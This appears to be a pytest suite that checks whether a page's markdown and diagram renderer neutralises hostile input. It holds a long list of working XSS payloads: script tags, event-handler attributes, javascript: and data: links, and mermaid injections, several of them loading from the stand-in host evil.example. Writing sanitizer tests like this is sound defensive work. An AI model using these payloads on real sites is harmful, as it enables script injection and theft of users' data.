"""Texts that want to run, load or frame something: all they get is being read."""

import pytest

ATTRIBUTES = {
    "alt",
    "aria-label",
    "checked",
    "class",
    "data-citation",
    "dir",
    "disabled",
    "href",
    "loading",
    "rel",
    "role",
    "src",
    "start",
    "tabindex",
    "target",
    "title",
    "type",
}
TAGS = {
    "a",
    "b",
    "blockquote",
    "br",
    "button",
    "code",
    "del",
    "details",
    "div",
    "em",
    "figcaption",
    "figure",
    "h2",
    "h3",
    "h4",
    "hr",
    "i",
    "img",
    "input",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "s",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
}
SIGN = "window.ran = true"
CALL = "window.ran=1"
MARKUP = [
    f"<script>{SIGN}</script>",
    f"<scr<script>ipt>{SIGN}</scr</script>ipt>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    f"<img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}//",
    '<img src="https://evil.example/pixel.png">',
    f"<svg onload={CALL}>",
    f"<svg><script>{SIGN}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<body onload={CALL}>",
    f'<iframe src="javascript:{CALL}"></iframe>',
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    f'<object data="data:text/html,<script>{SIGN}</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name=a><button>x</button></form>',
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<details open ontoggle={CALL}>\n<summary onclick={CALL}><img src=x onerror={CALL}></summary>\nx\n</details>",
    f"<think onclick={CALL}>\n<img src=x onerror={CALL}>\n</think>",
    f"<b onmouseover={CALL}>x</b><sub onclick={CALL}>2</sub>",
    f"<br onclick={CALL}>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<style>@import 'https://evil.example/x.css';</style>",
    f'<a href="javascript:{CALL}">x</a>',
    f"<video><source onerror={CALL}></video><audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>",
    f'<template><script>{SIGN}</script></template><noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<!--><img src=x onerror={CALL}>-->",
    f"<![CDATA[<script>{SIGN}</script>]]>",
    f"&lt;script&gt;{SIGN}&lt;/script&gt; &#60;img src=x onerror={CALL}&#62;",
    f'```html"><img src=x onerror={CALL}>\n<script>{SIGN}</script>\n```',
    f"`<script>{SIGN}</script>`",
    f"| <img src=x onerror={CALL}> |\n|---|\n| <script>{SIGN}</script> |",
    f"[^1]: <script>{SIGN}</script>\n\n[^<script>]: x",
    f"$<img src=x onerror={CALL}>$ $\\href{{javascript:{CALL}}}{{x}}$",
]
ADDRESSES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f" javascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"javascript://e.com/%0a{CALL}",
    f"data:text/html,<script>{SIGN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"vbscript:{CALL}",
    "blob:https://e.com/x",
    "file:///etc/passwd",
    "filesystem:https://e.com/x",
    "view-source:https://e.com/",
]
FORMS = [
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "![x]({})",
    "![x](<{}>)",
    "[r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}> 'a'",
    '[x]({} "a")',
]
LOOK = """
() => {
  const nodes = [...paper.querySelectorAll("*")];
  const ours = (node) => node.namespaceURI === "http://www.w3.org/1999/xhtml";
  return {
    tags: nodes.filter(ours).map((node) => node.localName),
    attributes: nodes.filter(ours).flatMap((node) => node.getAttributeNames()),
    links: [...paper.querySelectorAll("[href]")].map((node) => node.getAttribute("href")),
    sources: [...paper.querySelectorAll("[src]")].map((node) => node.src),
    rights: [...paper.querySelectorAll("a")].map((node) => `${node.rel} ${node.target}`),
  };
}
"""


@pytest.fixture
def watched(paper):
    """The page, where scripts, requests, dialogs, frames and breaches of the policy are noted."""
    noted = []
    note = {
        "request": lambda request: noted.append(request.url),
        "dialog": lambda dialog: (noted.append(dialog.message), dialog.dismiss()),
        "frameattached": lambda frame: noted.append(frame.url),
        "popup": lambda popup: noted.append(popup.url),
        "console": lambda message: noted.append(message.text),
        "pageerror": lambda error: noted.append(str(error)),
    }
    for event, listener in note.items():
        paper.on(event, listener)
    paper.evaluate("window.ran = undefined")
    yield paper, noted
    for event, listener in note.items():
        paper.remove_listener(event, listener)
    assert paper.evaluate("window.ran") is None
    assert [line for line in noted if not line.endswith(("math.js", "katex.js"))] == []


def check(page):
    seen = page.evaluate(LOOK)
    assert set(seen["tags"]) <= TAGS
    assert set(seen["attributes"]) <= ATTRIBUTES
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in seen["links"])
    assert seen["sources"] == []
    assert set(seen["rights"]) <= {"noopener noreferrer nofollow _blank"}


@pytest.mark.parametrize("text", MARKUP)
def test_markup_is_read(watched, text):
    page, _ = watched
    for shown in (text, f"- {text}", f"> **{text}**"):
        page.evaluate("(text) => grown(text, 7)", shown)
        check(page)


@pytest.mark.parametrize("target", ADDRESSES)
def test_an_address_leads_to_the_web_or_nowhere(watched, target):
    page, _ = watched
    page.evaluate("(texts) => whole(texts.join('\\n\\n'))", [form.format(target) for form in FORMS])
    check(page)
    page.evaluate("paper.querySelectorAll('a[href^=javascript], a[href^=data]').forEach((link) => link.click())")


@pytest.mark.parametrize(
    "diagram",
    [
        f'graph TD; A["<img src=x onerror={CALL}>"] --> B["<script>{SIGN}</script>"]',
        f'graph TD; A-->B; click A "javascript:{CALL}"',
        "graph TD; A-->B; click A call alert(1)",
        '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD; A["<iframe src=https://evil.example/>"]',
        '%%{init: {"themeCSS": "} @import url(https://evil.example/x.css);"}}%%\ngraph TD; A-->B',
        'graph TD; A@{ img: "https://evil.example/pixel.png", label: "x" }',
    ],
)
def test_a_diagram_runs_and_loads_nothing(paper, diagram):
    asked = []
    paper.route("https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))
    paper.evaluate("window.ran = undefined")
    last = "```mermaid\ngraph TD; Z-->Y\n```"
    paper.evaluate("(text) => whole(text)", f"```mermaid\n{diagram}\n```\n\n{last}\n")
    paper.wait_for_selector("figure:last-child img.diagram")
    paper.unroute("https://evil.example/**")
    assert paper.evaluate("window.ran") is None
    assert asked == []
    assert paper.evaluate("document.querySelectorAll('iframe').length") == 1
